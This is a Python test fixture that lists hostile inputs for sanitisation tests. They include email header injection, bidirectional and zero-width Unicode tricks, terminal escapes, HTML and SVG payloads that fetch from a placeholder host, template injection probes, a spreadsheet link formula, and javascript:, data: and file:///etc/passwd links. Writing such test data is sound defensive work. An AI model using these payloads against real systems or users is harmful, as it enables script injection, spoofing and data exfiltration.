"""Texts that try to be more than text; written for these tests."""

from __future__ import annotations

MARKER = "marker.invalid"

HOSTILE = {
    "header injection": f"Title\r\nBcc: thief@{MARKER}\r\n\r\nbody",
    "bare line feed": f"Title\nBcc: thief@{MARKER}",
    "line separator": f"Title\u2028Bcc: thief@{MARKER}",
    "paragraph separator": f"Title\u2029Bcc: thief@{MARKER}",
    "next line": f"Title\x85Bcc: thief@{MARKER}",
    "vertical tab": f"Title\x0bBcc: thief@{MARKER}\x0c\x1c\x1d\x1e",
    "nul": "Title\x00hidden",
    "direction override": "invoice\u202efdp.exe",
    "isolates": "a\u2066b\u2067c\u2069d",
    "zero width": "pol\u200bice\u2060 sta\ufefftion",
    "tag letters": "ok\U000e0041\U000e0042",
    "surrogate": "Title \ud800 end",
    "noncharacter": "Title \uffff \U0010ffff end",
    "escape": "\x1b[31mred\x1b]0;title\x07",
    "script": f"<script src=//{MARKER}/x.js></script><img src=http://{MARKER}/i onerror=x()>",
    "style": f"</style><style>@import url(http://{MARKER}/c.css)</style>",
    "svg": f"<svg onload=fetch('http://{MARKER}/s')><image href=http://{MARKER}/t></svg>",
    "refresh": f'<meta http-equiv=refresh content="0;url=http://{MARKER}/r">',
    "form": f"<form action=http://{MARKER}/f><input autofocus onfocus=submit()>",
    "base": f"<base href=http://{MARKER}/>",
    "link": f"<link rel=stylesheet href=http://{MARKER}/l.css><link rel=prefetch href=//{MARKER}>",
    "frame": f"<iframe src=http://{MARKER}/frame></iframe><object data=//{MARKER}></object>",
    "css": f'x" style="background:url(http://{MARKER}/bg)',
    "template": "{{ 7 * 7 }} {% raw %} {{ config }}",
    "unclosed": "<!-- <table><td><b>",
    "encoded word": f"=?utf-8?q?a?= Bcc:_thief@{MARKER}?=",
    "address": f'"Boss" <boss@{MARKER}>, other@{MARKER}',
    "long": "very long title " * 700,
    "long word": "x" * 10_000,
    "combining": "Z" + "\u0301" * 3000,
    "empty": "",
    "blanks": " \t\n ",
    "formula": '=HYPERLINK("http://marker.invalid","click")',
}

BAD_LINKS = (
    f"javascript:fetch('http://{MARKER}/j')",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    f"//{MARKER}/x",
    "http://",
    f"http://good.example\\@{MARKER}/",
    f"http://good.example\r\nX: {MARKER}",
    "http://a b/",
    "http://[::1",
    'http://x.example/"onmouseover="alert(1)',
    "",
)
